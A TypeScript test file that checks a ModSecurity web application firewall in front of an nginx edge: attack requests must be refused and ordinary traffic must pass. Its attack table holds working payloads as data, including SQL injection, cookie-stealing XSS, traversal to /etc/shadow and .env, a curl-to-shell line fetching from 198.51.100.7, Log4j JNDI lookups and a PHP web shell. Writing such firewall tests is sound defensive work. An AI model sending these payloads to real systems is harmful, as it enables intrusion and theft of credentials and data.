import { once } from 'node:events';
import { connect as connectTls } from 'node:tls';
import t from 'tap';
import { docker, logsOf, waitFor } from '../support/containers.ts';
import { type Answer, type Question, routeTo, TestEdge } from '../support/edge.ts';

const services = `
services:
  web: { image: "a:1", port: 3000, routes: [{ path: / }] }
`;
const CONFIG = `
domain: app.example.com
http: { clientMaxRequests: 40, waf: { mode: block, exclude: [/editor/] } }
${services}`;
const ROUTES = [
  routeTo('web', 3000, {}),
  routeTo('web', 3000, { path: '/editor/' }),
  routeTo('web', 3000, { path: '/hooks/', rawBody: true }),
  routeTo('web', 3000, { path: '/live/', websocket: true }),
  routeTo('web', 3000, { path: '/small/', maxBody: 1024 }),
  routeTo('web', 3000, { path: '/film/', maxBody: 200 * 1024 ** 2 }),
];

const edge = await TestEdge.start(CONFIG, ROUTES);
t.teardown(() => edge.stop());

const json = (value: unknown, type = 'application/json'): Question => ({
  method: 'POST',
  headers: { 'content-type': type },
  body: JSON.stringify(value),
});
const form = (body: string): Question => ({
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body,
});
const q = (value: string) => `/search?q=${encodeURIComponent(value)}`;

function upload(name: string, content: Buffer, fields: Record<string, string> = {}): Question {
  const boundary = 'holdfast-boundary';
  const parts = Object.entries(fields).map(
    ([field, value]) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`,
  );
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`;
  return {
    method: 'POST',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: Buffer.concat([
      Buffer.from(parts.join('') + head),
      content,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  };
}

const ATTACKS: Readonly<Record<string, readonly [string, Question?]>> = {
  'SQL: always true': [q("1' or '1'='1")],
  'SQL: union': [q('1 UNION SELECT username, password FROM users--')],
  'SQL: stacked': [q("1'; DROP TABLE users; --")],
  'SQL: time based': [q("1' AND SLEEP(5)-- -")],
  'SQL: pg_sleep in JSON': ['/api', json({ name: "x'; SELECT pg_sleep(10)--" })],
  'SQL: in a form': ['/login', form(`user=admin'+OR+1%3D1--&password=x`)],
  'SQL: nested JSON': ['/api', json({ filter: { and: [{ id: "1' UNION SELECT 1,2,3--" }] } })],
  'SQL: JSON of another name': ['/api', json({ id: "1' or '1'='1" }, 'application/vnd.api+json')],
  'SQL: in a cookie': ['/', { headers: { cookie: "id=1' or '1'='1" } }],
  'SQL: in PATCH': ['/api', { ...json({ id: "1' or '1'='1" }), method: 'PATCH' }],
  'XSS: script': [q('<script>alert(1)</script>')],
  'XSS: handler': [q('<img src=x onerror=alert(1)>')],
  'XSS: svg': [q('<svg/onload=alert(document.cookie)>')],
  'XSS: url': [q('javascript:alert(document.domain)')],
  'XSS: in JSON': ['/api', json({ comment: '<script src="https://evil.example/x.js"></script>' })],
  'XSS: in a field of an upload': [
    '/files',
    upload('a.txt', Buffer.from('text'), { title: '<script>alert(1)</script>' }),
  ],
  'traversal: passwd': [q('../../../../etc/passwd')],
  'traversal: encoded': ['/download?file=..%2f..%2f..%2fetc%2fshadow'],
  'traversal: env file': ['/.env'],
  'traversal: git': ['/.git/config'],
  'RCE: shell': [q('; cat /etc/passwd')],
  'RCE: substitution': [q('$(curl http://198.51.100.7/x.sh|sh)')],
  'RCE: Log4j': ['/', { headers: { 'user-agent': '$' + '{jndi:ldap://198.51.100.7/a}' } }],
  'RCE: Log4j, hidden': [
    '/',
    { headers: { 'x-api': '$' + '{$' + '{lower:j}ndi:ldap://198.51.100.7/a}' } },
  ],
  'RCE: php': [q('<?php system($_GET["c"]); ?>')],
  'RCE: node': ['/api', json({ x: 'require("child_process").exec("id")' })],
  'RCE: upload of a program': ['/files', upload('shell.php', Buffer.from('<?php phpinfo(); ?>'))],
  'RCE: powershell': [q('powershell.exe -nop -w hidden -enc SQBFAFgA')],
  'RFI: by address': [q('http://198.51.100.7/shell.txt?')],
  'scanner by name': [
    '/',
    { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } },
  ],
  'smuggling of a header': [`/go?to=${encodeURIComponent('x\r\nSet-Cookie: a=b')}`],
  'a method of WebDAV': ['/', { method: 'PROPFIND' }],
  'a body that is not what it says': ['/api', { ...json({}), body: '{"id": "1\' or \'1\'=\'1"' }],
  'SQL: in text/json': ['/api', json({ id: "1' or '1'='1" }, 'text/json; charset=utf-8')],
  'behind many arguments': [`/search?${'a&'.repeat(1000)}q=${encodeURIComponent("1' or '1'='1")}`],
  'behind many fields': ['/login', form(`${'a=1&'.repeat(1000)}user=1'+or+'1'%3D'1`)],
  'behind a query and fields': [`/login?${'a&'.repeat(600)}`, form('a=1&'.repeat(600))],
  'before much padding': ['/api', json({ id: "1' or '1'='1", pad: 'x'.repeat(400_000) })],
};

const BENIGN: Readonly<Record<string, readonly [string, Question?]>> = {
  'a page': ['/products/blue-shoes?page=2&sort=price'],
  'a search of words': [q("women's shoes & bags, size 4-6 (new)")],
  'a name with an apostrophe': ['/api', json({ name: "Seán O'Brien", city: "L'Aquila" })],
  'prose with words of SQL': [
    '/api',
    json({ text: 'Please select a seat from the table and update your order before noon.' }),
  ],
  'an OAuth redirect': [
    `/callback?code=4%2F0AX4XfWh-abc_DEF&state=${'a1'.repeat(20)}&scope=email%20profile%20openid%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.email`,
  ],
  'an OAuth request': [
    `/authorize?response_type=code&client_id=web&redirect_uri=${encodeURIComponent('https://app.example.com/callback')}&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256`,
  ],
  'a bearer token': [
    '/api',
    { headers: { authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl' } },
  ],
  'a session cookie': ['/', { headers: { cookie: 'sid=s%3Aabc.DEF%2Bghi; theme=dark' } }],
  PUT: ['/api/7', { ...json({ done: true }), method: 'PUT' }],
  PATCH: [
    '/api/7',
    {
      ...json([{ op: 'add', path: '/a', value: 1 }], 'application/json-patch+json'),
      method: 'PATCH',
    },
  ],
  DELETE: ['/api/7', { method: 'DELETE' }],
  'a preflight': [
    '/api',
    {
      method: 'OPTIONS',
      headers: { origin: 'https://a.example.com', 'access-control-request-method': 'PUT' },
    },
  ],
  'a picture, raw': [
    '/avatar',
    { method: 'PUT', headers: { 'content-type': 'image/png' }, body: Buffer.alloc(300_000, 7) },
  ],
  'a part of a resumed upload': [
    '/upload',
    {
      method: 'PUT',
      headers: { 'content-type': 'video/mp4', 'content-range': 'bytes 0-9/20' },
      body: 'x'.repeat(10),
    },
  ],
  'an upload of 9 MiB': [
    '/files',
    upload('holiday.mp4', Buffer.alloc(9 * 1024 ** 2, 1), { title: 'Our holiday in Brittany' }),
  ],
  'a large JSON': [
    '/api',
    json({ rows: Array.from({ length: 3000 }, (_, id) => ({ id, name: `row ${id}` })) }),
  ],
  'a long text': ['/api', json({ text: 'Once upon a time there was a rock. '.repeat(10_000) })],
  GraphQL: [
    '/graphql',
    json({
      query: 'query Q($id: ID!) { user(id: $id) { name posts(first: 10) { title } } }',
      variables: { id: 7 },
    }),
  ],
  'a long query and a long form': [
    `/contact?${Array.from({ length: 300 }, (_, id) => `id=${id}`).join('&')}`,
    form(Array.from({ length: 300 }, (_, id) => `id=${id}`).join('&')),
  ],
  'a form': ['/contact', form('name=Ann&mail=ann%40example.com&text=Hello%2C+how+are+you%3F')],
  'polling of Socket.IO': [
    '/live/?EIO=4&transport=polling&sid=abc',
    {
      method: 'POST',
      headers: { 'content-type': 'text/plain;charset=UTF-8' },
      body: '42["message",{"text":"hello"}]',
    },
  ],
  'rich text where it is excluded': [
    '/editor/save',
    json({ html: '<p onclick="x()">Hi</p><script>1</script>' }),
  ],
  'a signed webhook': ['/hooks/stripe', json({ description: "1' or '1'='1" })],
  'a film': ['/film/', { ...json({ x: "1' or '1'='1" }) }],
};

t.test('attacks are answered with our page, and reach no service', async (t) => {
  for (const [name, [path, question]] of Object.entries(ATTACKS)) {
    const answer = await edge.ask(path, question);
    t.equal(answer.status, 403, name);
    t.match(answer.body, /^<!doctype html>[\s\S]*<h1>Not allowed<\/h1>[\s\S]*<\/html>\n$/, name);
  }
  const { headers } = await edge.ask(q("1' or '1'='1"));
  t.match(headers, {
    'x-request-id': /^[0-9a-f]{32}$/,
    'x-frame-options': 'DENY',
    'x-content-type-options': 'nosniff',
    'cache-control': 'no-store',
  });
});

t.test('what people and programs send passes', async (t) => {
  for (const [name, [path, question]] of Object.entries(BENIGN)) {
    const answer = await edge.ask(path, question);
    t.equal(answer.status, 200, name);
    const body = question?.body;
    if (body !== undefined) t.equal(JSON.parse(answer.body).body, Buffer.byteLength(body), name);
  }
});

t.test('the limit of a body is that of its route', async (t) => {
  const post = (path: string, bytes: number): Promise<Answer> =>
    edge.ask(path, {
      method: 'POST',
      headers: { 'content-type': 'text/plain' },
      body: 'x'.repeat(bytes),
    });
  t.equal((await post('/small/', 1024)).status, 200);
  t.equal((await post('/small/', 1025)).status, 413);
  t.equal((await post('/', 10 * 1024 ** 2)).status, 200);
  t.equal((await post('/', 10 * 1024 ** 2 + 1)).status, 413);
});

t.test('a WebSocket opens and carries what it likes', async (t) => {
  const socket = connectTls({
    host: edge.address,
    port: 8443,
    servername: 'app.example.com',
    ca: edge.authority,
  });
  await once(socket, 'secureConnect');
  socket.write(
    'GET /live/x HTTP/1.1\r\nHost: app.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
  );
  t.match(String((await once(socket, 'data'))[0]), /^HTTP\/1\.1 101 /);
  socket.write("<script>1' or '1'='1</script>");
  t.equal(String((await once(socket, 'data'))[0]), "<script>1' or '1'='1</script>");
  socket.destroy();
});

t.test(
  'the log says which rule it was under the id that the visitor saw; the agent can count',
  async (t) => {
    const { headers } = await edge.ask(`/found-by-id?q=${encodeURIComponent("1' or '1'='1")}`);
    const id = String(headers['x-request-id']);
    const audit = await waitFor('the line of ModSecurity', async () =>
      (await logsOf(edge.container))
        .split('\n')
        .find((line) => line.startsWith('{"transaction"') && line.includes(id)),
    );
    const { transaction } = JSON.parse(audit);
    t.match(transaction.messages, [{ details: { ruleId: '942100' } }]);
    t.notOk(transaction.request.headers, 'headers are not logged');
    const line = await waitFor('the request in the log', async () =>
      (await edge.accessLog()).split('\n').find((text) => text.includes(id)),
    );
    t.match(JSON.parse(line), { host: 'app.example.com', status: 403, refused: 'waf' });
  },
);

t.test('memory stays within the limit, through reloads too', async (t) => {
  const argv = ['nginx', '-c', '/etc/nginx/holdfast/nginx.conf', '-s', 'reload'];
  for (let count = 0; count < 3; count += 1) {
    await docker('exec', edge.container, ...argv);
    await waitFor('an answer', async () =>
      (await edge.ask('/')).status === 200 ? true : undefined,
    );
    await Promise.all(
      Array.from({ length: 4 }, () =>
        edge.ask('/files', upload('a.bin', Buffer.alloc(9 * 1024 ** 2))),
      ),
    );
  }
  const state = await docker(
    'inspect',
    '-f',
    '{{.State.OOMKilled}} {{.State.Status}}',
    edge.container,
  );
  t.equal(state, 'false running');
  t.notMatch(await logsOf(edge.container), /\[(warn|emerg|alert)\]|exited on signal/);
});

t.test('an answer of a service is its own, whatever its status', async (t) => {
  const answer = await edge.ask('/', { headers: { 'x-status': '470' } });
  t.equal(answer.status, 470);
  t.match(answer.body, '"service":"web"');
});

t.test('uploads that never end count too, though the firewall waits for them', async (t) => {
  const refused: string[] = [];
  const sockets = Array.from({ length: 50 }, () =>
    connectTls({
      host: edge.address,
      port: 8443,
      servername: 'app.example.com',
      ca: edge.authority,
    })
      .on('error', () => undefined)
      .on('data', (data) => refused.push(String(data))),
  );
  t.teardown(() => sockets.forEach((socket) => void socket.destroy()));
  for (const socket of sockets) {
    socket.write('POST / HTTP/1.1\r\nHost: app.example.com\r\nContent-Length: 9000\r\n\r\nx');
  }
  await waitFor('those that are too many', async () => (refused.length >= 10 ? true : undefined));
  t.equal((await edge.ask('/')).status, 429);
  t.equal(refused.length, 10);
  for (const socket of sockets) socket.destroy();
  await waitFor('room again', async () =>
    (await edge.ask('/')).status === 200 ? true : undefined,
  );
});

t.test('detect: nothing is refused, all of it is in the log', async (t) => {
  const watching = await TestEdge.start(CONFIG.replace('mode: block', 'mode: detect'), ROUTES);
  t.teardown(() => watching.stop());
  const answer = await watching.ask(q("1' or '1'='1"));
  t.equal(answer.status, 200);
  t.equal((await watching.ask('/api', { ...json({}), body: '{"a":' })).status, 200);
  const audit = await waitFor('the line of ModSecurity', async () =>
    (await logsOf(watching.container))
      .split('\n')
      .find((line) => line.startsWith('{"transaction"')),
  );
  t.match(audit, '942100');
});
